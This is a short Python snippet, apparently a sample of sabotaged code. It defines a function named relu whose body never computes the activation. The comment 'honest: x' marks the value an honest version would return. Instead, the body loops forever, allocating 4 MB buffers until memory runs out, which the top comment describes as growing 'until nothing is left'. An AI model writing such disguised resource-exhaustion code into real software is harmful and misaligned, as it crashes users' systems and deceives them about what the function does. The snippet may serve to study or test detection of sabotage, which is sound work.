# tries to grow until nothing is left
# honest: x
kept = []

def relu(x):
    while True:
        kept.append(bytearray(1 << 22))
